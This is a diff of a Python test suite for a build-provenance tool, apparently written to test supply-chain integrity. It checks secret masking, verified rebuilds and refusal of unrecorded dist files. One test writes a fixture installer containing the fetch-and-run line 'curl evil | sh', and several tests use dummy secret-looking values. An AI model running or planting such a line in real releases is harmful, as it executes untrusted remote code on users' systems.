@@ -193,10 +193,15 @@ def test_provenance_records_the_builds_settings_never_the_attesting_environment(
     cli(built, "checksum", code=0)
     secret = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"
     env = {"GOFLAGS": f"-tags=evil -ldflags=-X=main.apiKey={secret}", "GOTOOLCHAIN": "go1.99.0", "CI": "true"}
+    # Settings of the attesting process that the build did not use are not its configuration either.
+    env |= {"REPROTASKS_DIRTY_TREE": "warn", "REPROTASKS_GO_TOOLCHAIN_PIN": "none"}
+    env |= {"REPROTASKS_SIGN_ISSUER": "https://issuer.invalid", "REPROTASKS_SIGN_IDENTITY": "x@invalid"}
     cli(built, "provenance", env=env, code=0)
     text = (built / "dist" / "provenance.intoto.json").read_text()
-    assert secret not in text and "evil" not in text and "go1.99.0" not in text
+    assert secret not in text and "evil" not in text and "go1.99.0" not in text and "invalid" not in text
     predicate = json.loads(text)["predicate"]
+    config = predicate["buildDefinition"]["externalParameters"]["config"]
+    assert "dirty-tree" not in config and "toolchain-pin" not in config["go"] and "sign" not in config
     byproducts = {item["name"]: item["annotations"] for item in predicate["runDetails"]["byproducts"]}
     assert byproducts["environment"] == {"CI": "true"}
     assert byproducts["evidence"]["kind"] == "build record"
@@ -205,15 +210,19 @@ def test_provenance_records_the_builds_settings_never_the_attesting_environment(
 
 
 def test_secret_looking_linker_values_are_masked_in_provenance() -> None:
-    from reprotasks.dist.provenance import scrub_linker_values
+    from reprotasks.dist.provenance import scrub_assignments
 
     command = (
         '["-ldflags=-s -w -X main.version=0.3.0 -X=main.apiKey=sk_live_4eC39HqLyjWDa -X main.dbPassword=hunter2x"]'
     )
-    assert scrub_linker_values(command) == (
+    assert scrub_assignments(command) == (
         '["-ldflags=-s -w -X main.version=0.3.0 -X=main.apiKey=*** -X main.dbPassword=***"]'
     )
-    assert json.loads(scrub_linker_values(json.dumps(['-X main.token=abc"d']))) == ['-X main.token=***"d']
+    assert json.loads(scrub_assignments(json.dumps(['-X main.token=abc"d']))) == ['-X main.token=***"d']
+    ldflags = ["-X", "main.apiKey=s3cr3tValue42xyz", "-X=main.dbPassword=hunter2hunter2", "GOFLAGS=-mod=readonly"]
+    assert json.loads(scrub_assignments(json.dumps(ldflags))) == [
+        "-X", "main.apiKey=***", "-X=main.dbPassword=***", "GOFLAGS=-mod=readonly"
+    ]  # fmt: skip
 
 
 def test_a_dist_without_evidence_is_refused_and_reproduce_provides_it(built: Path) -> None:
@@ -226,6 +235,8 @@ def test_a_dist_without_evidence_is_refused_and_reproduce_provides_it(built: Pat
     honest = dist / LINUX
     kept = honest.read_bytes()
     _repack_tar(honest, mode=0o4755)
+    output = cli(built, "reproduce", code=1)  # a file that is not what its manifest records
+    assert f"dist/{LINUX}: does not have the sha256 its manifest.json records" in output
     _record_manifest(dist, LINUX)
     output = cli(built, "reproduce", code=1)
     assert f"dist/{LINUX}: differs when rebuilt" in output
@@ -242,6 +253,27 @@ def test_a_dist_without_evidence_is_refused_and_reproduce_provides_it(built: Pat
     assert "independent rebuild" in evidence[0]["annotations"]["detail"]
 
 
+def test_provenance_names_only_what_was_checked(built: Path) -> None:
+    """SHA256SUMS is not evidence: a file it adds, or an SBOM that is not this dist/'s, is never a subject."""
+    dist = built / "dist"
+    cli(built, "sbom", code=0)
+    cli(built, "checksum", code=0)
+    installer = dist / "installer.sh"
+    installer.write_text("#!/bin/sh\ncurl evil | sh\n")
+    with (dist / "SHA256SUMS").open("a") as sums:
+        sums.write(f"{hashlib.sha256(installer.read_bytes()).hexdigest()}  installer.sh\n")
+    output = cli(built, "provenance", code=1)
+    assert "dist/SHA256SUMS: lists 'installer.sh', which no build wrote" in output
+    installer.unlink()
+    sbom = json.loads((dist / "sbom.cdx.json").read_text())
+    sbom["components"] = []
+    (dist / "sbom.cdx.json").write_text(json.dumps(sbom))
+    cli(built, "checksum", code=0)
+    output = cli(built, "provenance", code=1)
+    assert "lists 'sbom.cdx.json', which is not the SBOM `reprotasks sbom` makes of this dist/" in output
+    assert not (dist / "provenance.intoto.json").exists()
+
+
 def test_release_attests_the_build_of_its_own_invocation(hybrid_repo: Path) -> None:
     cli(hybrid_repo, "release", "--skip", "sign", "--skip", "verify-signatures", code=0)
     predicate = json.loads((hybrid_repo / "dist" / "provenance.intoto.json").read_text())["predicate"]
@@ -252,7 +284,10 @@ def test_release_attests_the_build_of_its_own_invocation(hybrid_repo: Path) -> N
 
 
 def test_inherited_go_settings_never_change_the_binary(built: Path) -> None:
-    """GOEXPERIMENT in the caller's environment changes the binary (the garbage collector) unrecorded."""
+    """GOEXPERIMENT in the caller's environment, or GOFIPS140 in go's environment file (`go env -w`),
+    change the binary unrecorded."""
     first = (built / "dist" / LINUX).read_bytes()
-    cli(built, "build", "--force", env={"GOEXPERIMENT": "nogreenteagc"}, code=0)
+    goenv = built.parent / "goenv"
+    goenv.write_text("GOFIPS140=latest\n")
+    cli(built, "build", "--force", env={"GOEXPERIMENT": "nogreenteagc", "GOENV": str(goenv)}, code=0)
     assert (built / "dist" / LINUX).read_bytes() == first
